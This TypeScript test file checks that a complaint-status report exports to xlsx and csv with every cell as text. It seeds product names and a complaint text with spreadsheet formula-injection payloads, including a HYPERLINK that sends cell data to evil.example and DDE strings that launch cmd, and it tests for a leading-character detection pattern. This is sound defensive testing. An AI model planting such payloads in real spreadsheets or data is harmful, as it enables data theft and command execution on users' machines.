// The bulk status report and its .xlsx / .csv export through the client, against the REAL
// reference API (in-process on PGlite), with product names that would be formulas in a spreadsheet.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import * as XLSX from 'xlsx';
import Papa from 'papaparse';
import { statusReportHeaders } from '@ipr/validators';
import { createIprClient, unwrap, type StatusExportQuery } from '../src/index.js';
import { BASE, clientOn, countRequests, startApi, TOKENS, type TestApi } from './support/api.js';
import { fileComplaint } from './support/complaints.js';

let api: TestApi;

/** Product names a supplier could give its listings, each a formula if a spreadsheet ran it. */
const HOSTILE = [
  { id: 'hostile0001', name: '=HYPERLINK("https://evil.example/?x="&A1,"Click")' },
  { id: 'hostile0002', name: '+SUM(1,2)' },
  { id: 'hostile0003', name: "-2+3+cmd|' /C calc'!A0" },
  { id: 'hostile0004', name: '@SUM(1+1)' },
];
const productUrl = (id: string) => `https://market.example/product/${id}`;

before(async () => {
  api = await startApi();
  for (const p of HOSTILE) {
    await api.db.query(
      'insert into products (id, url, name, supplier_id, category, listed) values ($1, $2, $3, $4, $5, true) on conflict (id) do nothing',
      [p.id, productUrl(p.id), p.name, 'acc_supplier_a', 'lighting'],
    );
  }
});
after(async () => {
  await api?.close();
});

const client = clientOn(() => api);
const counting = <T>(run: () => Promise<T>) => countRequests(api, run);

describe('status report and export', () => {
  let hostileNumber = '';
  before(async () => {
    const complaint = await fileComplaint(
      client(),
      HOSTILE.map((p) => productUrl(p.id)),
      "=cmd|'/C calc'!A0 these copy our mark",
    );
    hostileNumber = complaint.number;
    unwrap(await client(TOKENS.platform).complaints.forward(complaint.id));
  });

  const FORMULA = /^[=+\-@\t\r]/;

  test('statusReport answers one row per product, newest complaint first', async () => {
    const report = unwrap(await client().complaints.statusReport({ q: hostileNumber }));
    assert.equal(report.truncated, false);
    assert.deepEqual(report.rows.map((r) => r.productUrl).sort(), HOSTILE.map((p) => productUrl(p.id)).sort());
    assert.ok(report.rows.every((r) => r.number === hostileNumber && r.status === 'awaiting_supplier'));
    const names = report.rows.map((r) => r.productName).sort();
    assert.deepEqual(names, HOSTILE.map((p) => p.name).sort(), 'the raw rows carry the names as stored');
    const all = unwrap(await client().complaints.statusReport());
    assert.ok(all.rows.length >= report.rows.length);
    const times = all.rows.map((r) => Date.parse(r.createdAt));
    assert.ok(
      times.every((t, i) => i === 0 || times[i - 1]! >= t),
      'newest complaint first',
    );
  });

  test('xlsx: a real workbook whose every cell is text and no cell can run as a formula', async () => {
    const result = await client().complaints.exportStatus({ format: 'xlsx' });
    assert.ok(result.data, JSON.stringify(result.error));
    const report = unwrap(await client().complaints.statusReport());
    assert.equal(result.data.rows, report.rows.length);
    assert.equal(result.data.truncated, false);
    assert.match(result.data.fileName, /^ipr-complaint-status-\d{4}-\d{2}-\d{2}\.xlsx$/);
    assert.equal(result.data.blob.type, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const book = XLSX.read(new Uint8Array(await result.data.blob.arrayBuffer()), { type: 'array', cellFormula: true });
    assert.deepEqual(book.SheetNames, ['Complaint status']);
    const sheet = book.Sheets[book.SheetNames[0]!]!;
    const rows = XLSX.utils.sheet_to_json<string[]>(sheet, { header: 1, raw: true, defval: '' });
    assert.deepEqual(rows[0], statusReportHeaders('en'));
    assert.equal(rows.length, 1 + report.rows.length);
    for (const [ref, cell] of Object.entries(sheet)) {
      if (ref.startsWith('!')) continue;
      assert.equal((cell as XLSX.CellObject).f, undefined, `${ref} has no formula`);
      assert.equal((cell as XLSX.CellObject).t, 's', `${ref} is text`);
      assert.doesNotMatch(String((cell as XLSX.CellObject).v), FORMULA, `${ref} cannot start a formula`);
    }
    const hostileRows = rows.filter((r) => r[0] === hostileNumber);
    assert.equal(hostileRows.length, HOSTILE.length);
    const nameCol = statusReportHeaders('en').indexOf('Product name');
    assert.deepEqual(
      hostileRows.map((r) => r[nameCol]).sort(),
      HOSTILE.map((p) => `'${p.name}`).sort(),
      'names kept, behind an apostrophe',
    );
    assert.ok(
      hostileRows.every((r) => r.includes('Awaiting supplier') && r.includes('Pending')),
      'labels, not codes',
    );
  });

  test('csv: UTF-8 with a BOM, zh-CN labels, parses back to the same table, neutralised', async () => {
    const result = await client().complaints.exportStatus({ format: 'csv', locale: 'zh-CN', q: hostileNumber });
    assert.ok(result.data, JSON.stringify(result.error));
    assert.equal(result.data.rows, HOSTILE.length);
    assert.match(result.data.fileName, /\.csv$/);
    assert.match(result.data.blob.type, /^text\/csv/);
    const bytes = new Uint8Array(await result.data.blob.arrayBuffer());
    assert.deepEqual([...bytes.slice(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 BOM');
    const text = new TextDecoder('utf-8', { fatal: true }).decode(bytes); // strips the BOM
    assert.ok(text.includes('\r\n'), 'CRLF rows');
    const parsed = Papa.parse<string[]>(text, { skipEmptyLines: true });
    assert.deepEqual(parsed.errors, []);
    assert.deepEqual(parsed.data[0], statusReportHeaders('zh-CN'));
    assert.equal(parsed.data.length, 1 + HOSTILE.length);
    for (const row of parsed.data) for (const cell of row) assert.doesNotMatch(cell, FORMULA, cell);
    const nameCol = statusReportHeaders('en').indexOf('Product name');
    assert.deepEqual(
      parsed.data
        .slice(1)
        .map((r) => r[nameCol])
        .sort(),
      HOSTILE.map((p) => `'${p.name}`).sort(),
    );
    assert.ok(
      parsed.data.slice(1).every((r) => r.includes('等待供应商处理')),
      'zh-CN status label',
    );
  });

  test('filters reach the server; a supplier exports only its own products; a bad format costs no request', async () => {
    const none = unwrap(await client().complaints.exportStatus({ format: 'csv', status: 'arbitrated' }));
    const other = unwrap(await client().complaints.statusReport({ status: 'arbitrated' }));
    assert.equal(none.rows, other.rows.length);
    const supplierB = unwrap(
      await client(TOKENS.supplierB).complaints.exportStatus({ format: 'xlsx', q: hostileNumber }),
    );
    assert.equal(supplierB.rows, 0, "the hostile products are supplier A's");
    const supplierA = unwrap(
      await client(TOKENS.supplierA).complaints.exportStatus({ format: 'xlsx', q: hostileNumber }),
    );
    assert.equal(supplierA.rows, HOSTILE.length);
    // A JS caller is not held to the types (JSON.parse stands in for one): the client and the
    // server still refuse what the contract does not name.
    const pdf: StatusExportQuery = JSON.parse('{ "format": "pdf" }');
    const { value, requests } = await counting(() => client().complaints.exportStatus(pdf));
    assert.equal(requests, 0);
    assert.equal(value.error?.code, 'field.invalid_choice');
    assert.equal(value.error?.status, 422);
    const nonsense: StatusExportQuery = JSON.parse('{ "format": "csv", "status": "nonsense" }');
    const bad = await client().complaints.exportStatus(nonsense);
    assert.equal(bad.error?.status, 422, 'the server refuses an unknown status');
    const unauth = await createIprClient({ baseUrl: BASE, fetch: api.fetch as typeof fetch }).complaints.exportStatus({
      format: 'csv',
    });
    assert.equal(unauth.error?.code, 'auth.unauthorized');
  });
});
